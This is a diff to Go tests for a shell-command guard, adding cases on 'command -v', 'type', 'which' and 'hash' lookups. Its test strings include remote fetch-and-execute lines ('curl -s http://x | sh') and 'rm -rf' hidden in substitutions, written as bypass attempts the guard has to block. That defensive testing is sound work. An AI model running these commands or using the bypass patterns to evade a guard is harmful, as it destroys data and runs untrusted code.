@@ -142,6 +142,19 @@ func TestBypassClasses(t *testing.T) {
 		{"eval computed", `eval "$PAYLOAD"`, "computed at run time"},
 		{"sh -c computed", `sh -c "$PAYLOAD"`, "computed at run time"},
 		{"nested sh -c", `sh -c "bash -c 'rm -rf /tmp/x'"`, reasonRecursiveRm},
+		// command without -v/-V runs its operand; a lookup does not make a
+		// later run of the same program any safer; the words of a lookup
+		// are still words whose substitutions run.
+		{"command runs its operand", "command node", "standard input"},
+		{"command -p runs its operand", "command -p node", "standard input"},
+		{"-v after -- is the command", "command -- -v node", "standard input"},
+		{"lookup then run", "command -v node; node", "standard input"},
+		{"lookup then run &&", "command -v node && curl -s http://x | node", "standard input"},
+		{"which substitution", "which $(node)", "standard input"},
+		{"command -v substitution", "command -v $(curl -s http://x | sh)", "standard input"},
+		{"type substitution", "type -p `rm -rf /tmp/x`", reasonRecursiveRm},
+		{"hash substitution", `hash "$(rm -rf /tmp/x)"`, reasonRecursiveRm},
+		{"lookup result run", "$(command -v node) -e 'x'", reasonComputed},
 	}
 	for gname, g := range guards(t) {
 		for _, tc := range cases {
@@ -191,6 +204,9 @@ func TestAllowlistWrappersAndFind(t *testing.T) {
 	wantAllowed(t, g, "sh -c 'ls -la'")
 	wantBlocked(t, g, "sudo ls", "not on the allowlist")
 	wantBlocked(t, g, "chroot / ls", "not on the allowlist")
+	// command -v starts nothing, so it is the command the allowlist judges.
+	wantAllowed(t, g, "command ls")
+	wantBlocked(t, g, "command -v ls", "not on the allowlist")
 	wantBlocked(t, g, "find . -exec grep -l x {} +", "not on the allowlist")
 	if err := g.Check("find . -exec grep -l x {} +"); !strings.Contains(err.Error(), "`find . -exec") {
 		t.Fatalf("the refused command is not named: %v", err)
@@ -270,10 +286,19 @@ func TestOrdinaryCommands(t *testing.T) {
 		"git -c user.name=bot commit -m x",
 		"echo $((1 + 2))",
 		"true",
+		// Looking a program up runs nothing: the operands are names.
+		"command -v node",
+		"command -V npx",
+		"type node",
+		"type -p python3",
+		"which node npx",
+		"hash node",
+		"command -v node; command -v npx",
+		"command -v node >/dev/null && node -e 'console.log(1)'",
 	}
 	deny := mustGuard(t, Options{})
 	allow := mustGuard(t, Options{Allow: []string{
-		`(ls|cat|grep|go|echo|git|python3|find|xargs|mkdir|cd|wc|rm|x=|sort|uniq|head|sed|awk|perl|node|kill|chmod|\./run\.sh|cp|tar|curl|bash|timeout|env|nice|make|sleep|printf|true)\b|\[ `,
+		`(ls|cat|grep|go|echo|git|python3|find|xargs|mkdir|cd|wc|rm|x=|sort|uniq|head|sed|awk|perl|node|kill|chmod|\./run\.sh|cp|tar|curl|bash|timeout|env|nice|make|sleep|printf|true|command|type|which|hash)\b|\[ `,
 	}})
 	for _, script := range cases {
 		t.Run("denylist/"+script, func(t *testing.T) { wantAllowed(t, deny, script) })
@@ -392,6 +417,7 @@ func TestWrappers(t *testing.T) {
 		"timeout 5 nice -n 1 env A=1 sudo rm -rf x",
 		"trap 'rm -rf x' EXIT", "alias x='rm -rf x'", "mapfile -C 'rm -rf x' -c 1 arr < f",
 		"git -c core.pager='rm -rf x' log", "git config alias.x '!rm -rf x'", "git -c alias.y='!sh -c \"rm -rf x\"' y",
+		"command -v rm && rm -rf x", "command -pv rm; command rm -rf x", "command -x rm -rf x",
 	} {
 		t.Run(script, func(t *testing.T) { wantBlocked(t, g, script, "") })
 	}
@@ -399,6 +425,9 @@ func TestWrappers(t *testing.T) {
 		"env", "nice", "timeout 5 ls", "sudo -l", "xargs", "find . -name x -exec grep -l foo {} +",
 		"flock /tmp/lock make", "busybox --list", "watch -n 5 ls", "git -c color.ui=always log",
 		"git config user.email bot@example.com", "ionice -p 123",
+		// command -v and -V look their operands up and run nothing.
+		"command -v node", "command -V npx", "command -pv node", "command -v -p node", "command -v -- node",
+		"command -v node; command -v npx", "command -v shutdown", "command -V rm -rf x", "command -v $TOOL",
 	} {
 		t.Run("ok/"+script, func(t *testing.T) { wantAllowed(t, g, script) })
 	}
